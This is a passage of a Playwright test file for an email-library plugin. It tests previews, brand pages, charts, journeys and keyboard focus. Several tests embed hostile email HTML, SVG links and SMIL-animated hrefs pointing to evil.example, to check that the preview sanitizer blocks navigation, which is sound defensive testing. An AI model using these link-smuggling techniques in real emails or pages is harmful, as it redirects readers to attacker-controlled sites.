    expect(await frame.getByText('Two columns on a desktop').isVisible()).toBe(false);
  });

  it('draws the zoomed-out Desktop preview’s focus ring at 2 px and its border at 1 px, as at Mobile (the ring was zoomed with the email, to about 1 px)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const { frameElement } = await openEmailHtmlAsync(ui, '<html><body><p>Scroll me with the keys.</p></body></html>');
    expect(await ui.getByRole('button', { name: 'Desktop' }).getAttribute('aria-pressed')).toBe('true');
    // Tab from the width buttons goes into the email's frame, to scroll it.
    await ui.getByRole('button', { name: 'Phone' }).focus();
    await h.page.keyboard.press('Tab');
    // Widths as drawn by the frame and the element around it, each times its zoom.
    const drawn = () =>
      frameElement.evaluate((frame) => {
        const px = (text: string) => Number(/(-?[\d.]+)px\s*$/.exec(text.replace(/rgba?\([^)]*\)/g, '').trim())?.[1] ?? 0);
        let border = 0;
        let ring = 0;
        for (const element of [frame, frame.parentElement!]) {
          const style = getComputedStyle(element);
          const zoom = (element as Element & { currentCSSZoom: number }).currentCSSZoom;
          border += parseFloat(style.borderTopWidth) * zoom;
          if (style.boxShadow !== 'none') ring = Math.max(ring, px(style.boxShadow) * zoom);
        }
        return { border: Math.round(border * 100) / 100, ring: Math.round(ring * 100) / 100, zoomed: (frame as Element & { currentCSSZoom: number }).currentCSSZoom < 1 };
      });
    await expect.poll(drawn).toEqual({ border: 1, ring: 2, zoomed: true });
  });

  it('keeps an SVG link (xlink:href) in an email’s HTML from navigating the preview away', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const html =
      '<html><body><p>Before the link.</p><svg width="300" height="60" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://evil.example/svg-away"><rect width="300" height="60" fill="blue"></rect><text x="10" y="35">Shop the sale</text></a></svg></body></html>';
    const { frameElement, frame } = await openEmailHtmlAsync(ui, html);
    // Shown as the link's title, not followed.
    expect((await frameElement.getAttribute('srcdoc')) ?? '').not.toMatch(/href="https:\/\/evil/);
    await expect.poll(() => frame.getByText('Before the link.').count()).toBe(1);
    // At phone width the frame is at its own scale: Desktop is zoomed out to fit the window, and Playwright aims its clicks inside a zoomed frame as if it were not.
    await ui.getByRole('button', { name: 'Phone' }).click();
    await frame.getByText('Shop the sale').click({ force: true });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(frame.url()).toBe('about:srcdoc');
  });

  it('keeps an SVG animation that gives a link its address (set, animate) from navigating the preview away', async () => {
    const ui = await openBrowseAsync('light', 'key');
    // No href to strip: the address arrives by SMIL once the email is shown.
    const html =
      '<html><body><p>Before the links.</p>' +
      '<svg width="300" height="60"><a><set attributeName="href" to="https://evil.example/set-away"></set><rect width="300" height="60" fill="blue"></rect><text x="10" y="35">Shop the sale</text></a></svg>' +
      '<svg width="300" height="60"><a><animate attributeName="href" values="https://evil.example/animate-away" dur="1s" fill="freeze"></animate><rect width="300" height="60" fill="green"></rect><text x="10" y="35">See the offer</text></a></svg>' +
      '<p>After the links.</p></body></html>';
    const { frame } = await openEmailHtmlAsync(ui, html);
    await expect.poll(() => frame.getByText('After the links.').count()).toBe(1);
    // The animations have run (1 s) before the clicks.
    await new Promise((resolve) => setTimeout(resolve, 1_200));
    // At phone width the frame is at its own scale: Desktop is zoomed out to fit the window, and Playwright aims its clicks inside a zoomed frame as if it were not.
    await ui.getByRole('button', { name: 'Phone' }).click();
    for (const label of ['Shop the sale', 'See the offer']) {
      await frame.getByText(label).click({ force: true });
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(frame.url(), label).toBe('about:srcdoc');
    }
    expect(await frame.getByText('Before the links.').count()).toBe(1);
  });

  it('does not let the screenshot be dragged out of the plugin (only Insert places it, with its caption)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const subject = (await cards(ui).first().locator('.email-card-subject').textContent()) ?? '';
    await cards(ui).first().click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(subject);
    const screenshot = ui.getByRole('img', { name: `Screenshot of the email “${subject}”` });
    await expect.poll(() => screenshot.evaluate((element: HTMLImageElement) => element.complete && element.naturalWidth > 0), { timeout: 10_000 }).toBe(true);
    // A drag that starts carries the picture's address and markup to wherever it is dropped: the
    // desktop, another app, or Figma's canvas as a bare image with no caption.
    await ui.evaluate(() => {
      const started: string[] = [];
      Object.assign(window, { __dragsStarted: started });
      document.addEventListener('dragstart', (event) => started.push((event.target as Element).tagName), true);
    });
    const box = (await h.page.locator('iframe[data-role="plugin-iframe"]').contentFrame().getByRole('img', { name: `Screenshot of the email “${subject}”` }).boundingBox())!;
    await h.page.mouse.move(box.x + box.width / 2, box.y + 40);
    await h.page.mouse.down();
    await h.page.mouse.move(box.x + box.width / 2 + 30, box.y + 80, { steps: 5 });
    await h.page.mouse.move(box.x - 300, box.y + 80, { steps: 10 });
    await h.page.mouse.up();
    expect(await ui.evaluate(() => (window as unknown as { __dragsStarted: string[] }).__dragsStarted)).toEqual([]);
  });

  it('says why there is no HTML without a key', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await cards(ui).first().click();
    await expect.poll(() => textOf(ui.getByTestId('html-status')), { timeout: 10_000 }).toContain('shown with a library key');
    expect(await ui.getByRole('button', { name: 'HTML' }).isDisabled()).toBe(true);
  });

  it('offers Settings beside “Add yours in Settings”, as Me and Requests do, opening on the library’s key (there was no way there)', async () => {
    for (const theme of ['light', 'dark'] as const) {
      const ui = await openBrowseAsync(theme, 'anonymous');
      await cards(ui).first().click();
      const why = ui.getByTestId('html-status');
      await expect.poll(() => textOf(why), { timeout: 10_000 }).toContain('Add yours in Settings');
      await checkAxeAsync(ui, `an email without its HTML, no key, ${theme}`);
      await why.getByRole('button', { name: 'Open Settings' }).click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
      await expect.poll(() => ui.getByTestId('settings-library-key').evaluate((element) => element === document.activeElement), { timeout: 5_000 }).toBe(true);
    }
  });

  it('says why there is no HTML for an old email, even with a key', async () => {
    const key = state.library.keys.demo;
    // The oldest email of a brand with one page of them; the library kept no HTML that far back.
    // Read with the key: anonymous reads share the 20 a minute the tests before may have used.
    const brands = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50', key);
    let old: { id: number; subject: string; captured: string; brand: string } | undefined;
    for (const brand of brands.data.filter((entry) => entry.email_count > 5 && entry.email_count <= 50)) {
      const page = await libraryAsync<{ data: { emails: Array<{ id: number; title: string; subject_line?: string; captured_date: string }> } }>(`/v1/brands/${brand.slug}?per_page=50`, key);
      const oldest = page.data.emails.at(-1)!;
      const detail = await libraryAsync<{ data: { html_status: string } }>(`/v1/emails/${oldest.id}`, key);
      if (detail.data.html_status === 'not_available') {
        old = { id: oldest.id, subject: oldest.subject_line ?? oldest.title, captured: oldest.captured_date, brand: brand.name };
        break;
      }
    }
    expect(old, 'the emulator has an email without stored HTML').toBeDefined();
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('searchbox', { name: 'Search emails' }).fill(old!.subject);
    await ui.getByLabel('Brand').fill(old!.brand);
    const [year, month, day] = old!.captured.split('-').map(Number) as [number, number, number];
    const captured = `${day} ${new Date(Date.UTC(year, month - 1, day)).toLocaleString('en-GB', { month: 'short', timeZone: 'UTC' })} ${year}`;
    // Its brand too: the same subject on the same day may come from another brand, in the results before the brand's filter applies.
    const card = emailList(ui).getByRole('button').filter({ hasText: captured }).filter({ hasText: old!.subject }).filter({ hasText: old!.brand });
    await card.first().waitFor({ timeout: 10_000 });
    await card.first().click();
    await expect.poll(() => textOf(ui.getByTestId('html-status')), { timeout: 10_000 }).toBe('The library has no HTML for this email, only its screenshot.');
    expect(await ui.getByRole('button', { name: 'HTML' }).isDisabled()).toBe(true);
    expect(await ui.getByRole('img', { name: `Screenshot of the email “${old!.subject}”` }).count()).toBe(1);
  });
});

interface BrandRecord {
  name: string;
  slug: string;
  email_count: number;
}

describe('Browse: back from a brand', () => {
  const focused = (ui: Frame) => ui.evaluate(() => (document.activeElement === document.body ? 'the page' : `${document.activeElement?.tagName ?? ''} ${document.activeElement?.textContent ?? ''}`));

  it('gives the keyboard back to the brand’s row in the list (it fell to the page’s body)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Top brands' }).getByRole('button').nth(3);
    for (const way of ['Escape', '← All brands'] as const) {
      await row.focus();
      await h.page.keyboard.press('Enter');
      await expect.poll(() => focused(ui), { timeout: 10_000 }).toMatch(/^H2 /);
      if (way === 'Escape') await h.page.keyboard.press('Escape');
      else await ui.getByRole('button', { name: way }).click();
      await expect.poll(() => focused(ui), { timeout: 5_000 }).toBe(`BUTTON ${(await row.textContent()) ?? ''}`);
    }
  });

  it('goes back to Me, on the followed brand it was opened from, not to the list of all brands', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Me', exact: true }).click();
    const row = ui.getByRole('list', { name: 'Followed brands' }).getByRole('button').nth(1);
    await row.focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(() => focused(ui), { timeout: 10_000 }).toMatch(/^H2 /);
    expect(await ui.getByRole('button', { name: '← All brands' }).count()).toBe(0);
    await ui.getByRole('button', { name: '← Back to Me' }).waitFor();
    await h.page.keyboard.press('Escape');
    await expect.poll(() => ui.getByRole('button', { name: 'Me', exact: true }).getAttribute('aria-current')).toBe('page');
    await expect.poll(() => focused(ui), { timeout: 5_000 }).toBe(`BUTTON ${(await row.textContent()) ?? ''}`);
  });
});

describe('Browse: More emails on a brand’s page', () => {
  it('keeps the focused More button in view below the rows it added (they pushed it out of the window)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50', state.library.keys.demo);
    // Three pages or more: the second is not the last, so More stays.
    const brand = top.data.find((entry) => entry.email_count > 40);
    expect(brand, 'the emulator has a brand with more than 40 emails').toBeDefined();
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(brand!.name);
    await ui.getByRole('list', { name: `Brands matching “${brand!.name}”` }).getByRole('button', { name: startingWith(brand!.name) }).click();
    const rows = ui.getByRole('list', { name: `Emails from ${brand!.name}` }).getByRole('listitem');
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(20);
    const more = ui.getByRole('button', { name: 'More emails' });
    await more.focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(40);
    await expect.poll(() => more.getAttribute('aria-busy')).not.toBe('true');
    // The button the focus is on shows in the window, and is what is drawn at its centre.
    const seen = () =>
      ui.evaluate(() => {
        const focused = document.activeElement as HTMLElement;
        const box = focused.getBoundingClientRect();
        const atCentre = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
        return `${focused.textContent ?? ''}: ${box.top >= 0 && box.bottom <= window.innerHeight && focused.contains(atCentre) ? 'in view' : `out of view (top ${Math.round(box.top)} of ${window.innerHeight})`}`;
      });
    await expect.poll(seen, { timeout: 5_000 }).toBe('More emails: in view');
  });
});

describe('Browse: brands', () => {
  it('lists the top brands, finds one by name, and shows its page with emails and insights as charts', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Brands' }).click();
    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50');
    const topList = ui.getByRole('list', { name: 'Top brands' });
    await expect.poll(() => textOf(topList.getByRole('listitem').first()), { timeout: 10_000 }).toContain(top.data[0]!.name);
    const brand = top.data[2]!;
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(brand.name);
    await ui.getByRole('list', { name: `Brands matching “${brand.name}”` }).getByRole('button', { name: new RegExp(`^${brand.name}`) }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brand.name);
    const insights = await libraryAsync<{ data: { technology: { esp_breakdown: Array<{ name: string }> }; frequency: { total_sent: number }; dashboard_url: string } }>(`/v1/brands/${brand.slug}/insights`);
    const page = ui.getByRole('article');
    // All the brand sent, said once (“143 emails in the library”, then “143 emails sent in all” said it twice); the insights go on from it.
    await expect.poll(() => textOf(page), { timeout: 10_000 }).toMatch(new RegExp(`^(?![^]*emails sent in all)[^]*${insights.data.frequency.total_sent} emails in the library[^]*InsightsSent about \\d`));
    // The insights' own public page.
    expect(await page.getByRole('link', { name: 'Its dashboard in the library' }).getAttribute('href')).toBe(insights.data.dashboard_url);
    // The busiest bar said as barsSummary says it: one, a tie of up to three ("… and …: 3 each, of 19"), or the total when more tie.
    const busiest = (said: string) => `(?:Most sends ${said}(?:, ${said})*(?: and ${said})?: \\d+(?: each,)? of \\d+|\\d+ sends in all)\\.`;
    expect(await ui.getByRole('img', { name: new RegExp(`^Sends by day of the week\\. ${busiest('on (?:Monday|Tuesday|Wednesday|Thursday|Friday|Saturday|Sunday)')} \\d+ on [A-Z]`) }).count()).toBe(1);
    expect(await ui.getByRole('img', { name: /^Sends by hour of the day/ }).count()).toBe(1);
    // Sends per week (or month, over a long span): drawn from the emails the page lists (the insights hold no series), growing with them.
    // With more to load, the oldest (perhaps short) period is left out, and the title says so: the busiest column's "of" (or the total, when more than three tie) counts the emails drawn.
    const weekly = (count: number) => ui.getByRole('img', { name: new RegExp(`^Sends per (week|month), in the ${count} emails listed below( \\(the oldest, partial (week|month) left out\\))?\\. ${busiest('in (?:the week of \\d+ [A-Z][a-z]{2}|[A-Z][a-z]{2} \\d{4})')} \\d+ in `) });
    await expect.poll(() => weekly(20).count(), { timeout: 10_000 }).toBe(1);
    const weeklyName = (await weekly(20).getAttribute('aria-label')) ?? '';
    // All 20 drawn, or fewer with the oldest period left out, as the title says.
    const drawn = Number((/ of (\d+)\. /.exec(weeklyName) ?? /\. (\d+) sends in all\. /.exec(weeklyName))?.[1]);
    if (weeklyName.includes('left out')) expect(drawn).toBeLessThan(20);
    else expect(drawn).toBe(20);
    expect(await ui.getByRole('figure', { name: /^Subject lines: \d+ characters on average$/ }).count()).toBe(1);
    await expect.poll(() => textOf(ui.getByRole('figure', { name: 'Senders' })), { timeout: 10_000 }).toContain('@');
    // Top words: how often each is used, not a share (“sofas 17% (34)” beside 143 emails read as 17% of them).
    const topWords = await ui.getByRole('figure', { name: 'Top words in subject lines' }).getByRole('listitem').allTextContents();
    expect(topWords.length).toBeGreaterThan(0);
    for (const row of topWords) expect(row).toMatch(/^\S+\d+ times?$/);
    expect(await ui.getByRole('figure', { name: 'Deliverability' }).getByRole('listitem').count()).toBe(3);
    if (brand.email_count > 20) {
      await ui.getByRole('button', { name: 'More emails' }).click();
      await expect.poll(() => weekly(Math.min(40, brand.email_count)).count(), { timeout: 10_000 }).toBe(1);
    }
    await expect.poll(() => textOf(ui.getByRole('figure', { name: 'Email service providers' })), { timeout: 10_000 }).toContain(insights.data.technology.esp_breakdown[0]!.name);
    const brandPage = await libraryAsync<{ data: { emails: Array<{ subject_line?: string; title: string }> } }>(`/v1/brands/${brand.slug}?per_page=20`);
    const firstEmail = brandPage.data.emails[0]!;
    await ui.getByRole('button', { name: new RegExp(`^${(firstEmail.subject_line ?? firstEmail.title).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`) }).first().click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(firstEmail.subject_line ?? firstEmail.title);
    await h.page.keyboard.press('Escape');
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 }))).toBe(brand.name);
    await checkAxeAsync(ui, 'brand page, light');
    await h.page.screenshot({ path: `${SHOTS}/library-brand-light.png` });
  });

  it('labels the brand list by the search it answers, and says it is looking while a new one is on its way', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Brands' }).click();
    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50');
    await expect.poll(() => textOf(ui.getByRole('list', { name: 'Top brands' }).getByRole('listitem').first()), { timeout: 10_000 }).toContain(top.data[0]!.name);
    // Each search's answer is held until the checks of its wait are done, so it is still on its way
    // however slow the machine (an answer slowed by 3 s could come before them).
    const asked = (url: URL) => url.pathname === '/v1/brands' && url.searchParams.has('q');
    let answers = await holdRequestsAsync(h.page, h.emulator.libraryUrl, asked);
    try {
      const search = ui.getByRole('searchbox', { name: 'Search brands' });
      await search.fill('Zzyzx');
      // The top brands still show until the answer comes: named for what they are, with a word that a search is on its way.
      expect(await ui.getByRole('list', { name: 'Top brands' }).count()).toBe(1);
      // The brand search's own status (the canvas insert's live region waits, empty, beside it).
      const brands = ui.getByRole('region', { name: 'Brands' });
      expect((await textOf(brands.getByRole('status')))?.trim()).toBe('Looking for “Zzyzx”…');
      // The search went out and is still on its way: the checks saw its wait.
      await expect.poll(() => answers.count(), { timeout: 10_000 }).toBeGreaterThan(0);
      expect(await ui.getByRole('list', { name: 'Top brands' }).count()).toBe(1);
      expect((await textOf(brands.getByRole('status')))?.trim()).toBe('Looking for “Zzyzx”…');
      await answers.releaseAsync();
      await expect.poll(() => textOf(ui.locator('.empty-state strong')), { timeout: 10_000 }).toBe('No brand called “Zzyzx” in the library.');
      answers = await holdRequestsAsync(h.page, h.emulator.libraryUrl, asked);
      await search.fill('Zzyzxq');
      await expect.poll(() => textOf(ui.locator('.empty-state strong')), { timeout: 10_000 }).toBe('No brand called “Zzyzx” in the library.');
      await expect.poll(() => answers.count(), { timeout: 10_000 }).toBeGreaterThan(0);
      await expect.poll(() => textOf(ui.locator('.empty-state strong')), { timeout: 10_000 }).toBe('No brand called “Zzyzx” in the library.');
      await answers.releaseAsync();
      await expect.poll(() => textOf(ui.locator('.empty-state strong')), { timeout: 10_000 }).toBe('No brand called “Zzyzxq” in the library.');
      // Its status stays in place, saying nothing now (a region mounted already filled is not announced).
      expect(await textNowAsync(brands.getByRole('status'))).toBe('');
    } finally {
      await answers.releaseAsync();
    }
  });

  it('keeps the focus on “More emails” while the next page loads, so the keyboard can go on paging', async () => {
    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50', state.library.keys.demo);
    const brand = top.data.find((candidate) => candidate.email_count > 40);
    expect(brand, 'the emulator has a brand with more than two pages of emails').toBeDefined();
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Brands' }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(brand!.name);
    await ui.getByRole('list', { name: `Brands matching “${brand!.name}”` }).getByRole('button', { name: new RegExp(`^${brand!.name}`) }).click();
    const rows = ui.getByRole('list', { name: `Emails from ${brand!.name}` }).getByRole('listitem');
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(20);
    await ui.getByRole('button', { name: 'More emails' }).focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(40);
    expect(await ui.evaluate(() => document.activeElement?.textContent?.trim() ?? null)).toBe('More emails');
    // The last page: the button goes, and the focus moves on to the first email that page added.
    const more = ui.getByRole('button', { name: 'More emails' });
    let before = 40;
    while ((await more.count()) > 0) {
      before = await rows.count();
      await h.page.keyboard.press('Enter');
      await expect.poll(async () => (await more.count()) === 0 || (await more.getAttribute('aria-busy')) === null, { timeout: 10_000 }).toBe(true);
      await expect.poll(async () => (await more.count()) === 0 || (await rows.count()) > before, { timeout: 10_000 }).toBe(true);
    }
    const total = await rows.count();
    const focusedRow = await ui.evaluate((label) => {
      const list = document.querySelector(`ul[aria-label="${label}"]`);
      const row = document.activeElement?.closest('li');
      return list && row && row.parentElement === list ? Array.from(list.children).indexOf(row) : -1;
    }, `Emails from ${brand!.name}`);
    expect(focusedRow).toBe(Math.min(before, total - 1));
  });

  it('waits out a 429 on the insights with the seconds left and shows them when the wait is over', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const brandName = (await cards(ui).first().locator('.email-card-brand').textContent()) ?? '';
    const refused: string[] = [];
    const insightsRoute = `${h.emulator.libraryUrl}/v1/brands/*/insights`;
    const stopInsightsRouteAsync = await addRouteAsync(h.page, insightsRoute, (route) => {
      // The first ask only: the library says to wait 2 seconds.
      if (refused.length > 0) return route.continue();
      refused.push(route.request().url());
      return route.fulfill(librarySlowDownFor(2));
    });
    try {
      await cards(ui).first().click();
      await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brandName);
      const alert = ui.getByRole('article').getByRole('alert');
      await expect.poll(() => textOf(alert), { timeout: 10_000 }).toBe('Insights could not be loaded. The library asks us to slow down for a moment.');
      expect(await ui.getByRole('article').getByText(/^Trying again in [12] seconds?\.$/).count()).toBe(1);
      // No click: the insights come by themselves once the wait is over.
      await ui.getByRole('heading', { name: 'Insights' }).waitFor({ timeout: 10_000 });
      expect(refused).toHaveLength(1);
      expect(await alert.count()).toBe(0);
    } finally {
      await stopInsightsRouteAsync();
    }
  });

  it('counts a brand’s one email in the singular', async () => {
    let single: BrandRecord | undefined;
    for (let page = 1; page <= 10 && !single; page++) {
      const brands = await libraryAsync<{ data: BrandRecord[] }>(`/v1/brands?per_page=50&page=${page}`, state.library.keys.demo);
      single = brands.data.find((brand) => brand.email_count === 1);
      if (brands.data.length === 0) break;
    }
    expect(single, 'the emulator has a brand with one email').toBeDefined();
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Brands' }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(single!.name);
    await ui.getByRole('list', { name: `Brands matching “${single!.name}”` }).getByRole('button', { name: new RegExp(`^${single!.name}`) }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(single!.name);
    await expect.poll(() => textOf(ui.getByRole('article').locator('.email-attribution')), { timeout: 10_000 }).toMatch(/^1 email in the library ·/);
  });

  it('says a brand with too few emails has no insights yet, without calling it an error', async () => {
    let small: BrandRecord | undefined;
    for (let page = 1; page <= 10 && !small; page++) {
      const brands = await libraryAsync<{ data: BrandRecord[] }>(`/v1/brands?per_page=50&page=${page}`, state.library.keys.demo);
      small = brands.data.find((brand) => brand.email_count > 0 && brand.email_count < 5);
      if (brands.data.length === 0) break;
    }
    expect(small, 'the emulator has a brand with fewer than 5 emails').toBeDefined();
    const ui = await openBrowseAsync('dark', 'key');
    await ui.getByRole('button', { name: 'Brands' }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(small!.name);
    await ui.getByRole('list', { name: `Brands matching “${small!.name}”` }).getByRole('button', { name: new RegExp(`^${small!.name}`) }).click();
    await expect.poll(() => textOf(ui.getByTestId('no-insights')), { timeout: 10_000 }).toContain('Too few emails yet');
    expect(await ui.getByRole('alert').count()).toBe(0);
  });

  it('puts the focus back on the row an email was opened from when going back to a brand’s page', async () => {
    const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50', state.library.keys.demo);
    const brand = top.data.find((candidate) => candidate.email_count >= 5)!;
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await ui.getByRole('searchbox', { name: 'Search brands' }).fill(brand.name);
    await ui.getByRole('list', { name: `Brands matching “${brand.name}”` }).getByRole('button', { name: new RegExp(`^${brand.name}`) }).click();
    const rows = ui.getByRole('list', { name: `Emails from ${brand.name}` }).locator('.brand-email');
    await rows.nth(3).waitFor({ timeout: 10_000 });
    // The page has given its heading the focus, as it does once shown.
    await expect.poll(() => ui.evaluate(() => document.activeElement?.id)).toBe('brand-page-title');
    const subject = (await rows.nth(3).locator('.brand-email-subject').textContent()) ?? '';
    await rows.nth(3).focus();
    await h.page.keyboard.press('Enter');
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(subject);
    await h.page.keyboard.press('Escape');
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brand.name);
    await expect.poll(() => ui.evaluate(() => document.activeElement?.querySelector('.brand-email-subject')?.textContent ?? null)).toBe(subject);
  });

  it('goes back to the email a brand’s page was opened from (Escape or its back button)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const subjects = await cardSubjectsAsync(ui);
    const brandName = (await cards(ui).nth(1).locator('.email-card-brand').textContent()) ?? '';
    await cards(ui).nth(1).click();
    const title = ui.getByRole('heading', { level: 2 });
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[1]);
    await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(brandName);
    await h.page.keyboard.press('Escape');
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[1]);
    await expect.poll(() => textOf(ui.getByRole('navigation', { name: 'Results' })), { timeout: 10_000 }).toContain('2 of');
    // Its back button says where it goes, and goes there.
    await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(brandName);
    await ui.getByRole('button', { name: '← Back to the email' }).click();
    await expect.poll(() => textOf(title), { timeout: 10_000 }).toBe(subjects[1]);
    // And from there back to the results, at the card it came from.
    await h.page.keyboard.press('Escape');
    await expect.poll(() => ui.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset['index'])).toBe('1');
  });

  it('opens the brand’s page from an email, without fetching the list of brands until asked', async () => {
    const ui = await openBrowseAsync('dark', 'key');
    const { urls: brandLists, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/brands?`));
    try {
      const brandName = (await cards(ui).first().locator('.email-card-brand').textContent()) ?? '';
      await cards(ui).first().click();
      await ui.getByRole('button', { name: `${brandName}: the brand’s page` }).click();
      await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(brandName);
      await ui.getByRole('heading', { name: 'Insights' }).waitFor({ timeout: 10_000 });
      await checkAxeAsync(ui, 'brand page, dark');
      await h.page.screenshot({ path: `${SHOTS}/library-brand-dark.png` });
      expect(brandLists).toEqual([]);
      // The page's back button goes to the email it came from; the Brands section lists them all.
      await ui.getByRole('navigation', { name: 'Library' }).getByRole('button', { name: 'Brands' }).click();
      const top = await libraryAsync<{ data: BrandRecord[] }>('/v1/brands?per_page=50');
      await expect.poll(() => textOf(ui.getByRole('list', { name: 'Top brands' }).getByRole('listitem').first()), { timeout: 10_000 }).toContain(top.data[0]!.name);
      expect(brandLists).toHaveLength(1);
    } finally {
      stopWatching();
    }
  });
});

describe('Browse: journeys', () => {
  it('lists the journeys and shows one as its stages in order, with the emails per stage adjustable', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand: string; brand_slug: string }> }>('/v1/journeys?per_page=50');
    expect(journeys.data.length).toBeGreaterThan(0);
    const chosen = journeys.data[0]!;
    type JourneyBody = { data: { stages: Array<{ stage: string; emails: Array<{ subject_line?: string; title: string }> }> } };
    const three = await libraryAsync<JourneyBody>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=3`, state.library.keys.demo);
    const one = await libraryAsync<JourneyBody>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=1`, state.library.keys.demo);
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    // The journey names the brand by its slug ("fernwood-knitwear"); the list and the heading say its name, as Brands does.
    const name = await brandNameAsync(chosen.brand_slug);
    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(name) }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(`${name}: journey`);
    const stageHeadings = () => ui.getByRole('heading', { level: 3 }).allTextContents();
    await expect.poll(async () => (await stageHeadings()).map((text) => text.replace(/ \((\d+ of )?\d+ emails?\)$/, ''))).toEqual(three.data.stages.map((stage) => stage.stage));
    const firstStage = three.data.stages[0]!;
    expect(await ui.getByRole('list', { name: `${firstStage.stage} emails` }).getByRole('listitem').count()).toBe(firstStage.emails.length);
    await ui.getByLabel('Emails per stage').selectOption('1');
    await expect.poll(() => ui.getByRole('list', { name: `${firstStage.stage} emails` }).getByRole('listitem').count(), { timeout: 10_000 }).toBe(one.data.stages[0]!.emails.length);
    const email = one.data.stages[0]!.emails[0]!;
    await ui.getByRole('list', { name: `${firstStage.stage} emails` }).getByRole('button').first().click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(email.subject_line ?? email.title);
  });

  it('says how many of a stage’s emails are shown (it read “(8 emails)” over the one row shown)', async () => {
    const journeys = await libraryAsync<{ data: Array<{ brand_slug: string }> }>('/v1/journeys?per_page=50');
    const chosen = journeys.data[0]!;
    type JourneyBody = { data: { stages: Array<{ stage: string; email_count: number; emails: unknown[] }> } };
    const one = await libraryAsync<JourneyBody>(`/v1/journeys/${chosen.brand_slug}?emails_per_stage=1`, state.library.keys.demo);
    const stage = one.data.stages.find((known) => known.email_count > 1 && known.emails.length === 1)!;
    expect(stage, 'a stage of more than one email').toBeDefined();
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByRole('button', { name: 'Journeys', exact: true }).click();
    await ui.getByRole('list', { name: 'Brands with a journey' }).getByRole('button', { name: startingWith(await brandNameAsync(chosen.brand_slug)) }).click();
    await ui.getByLabel('Emails per stage').selectOption('1');
    const heading = ui.getByRole('region', { name: stage.stage }).getByRole('heading', { level: 3 });
    await expect.poll(() => textOf(heading), { timeout: 10_000 }).toBe(`${stage.stage} (1 of ${stage.email_count} emails)`);
  });
});

describe('Browse: the number of emails per stage, from one journey to the next', () => {
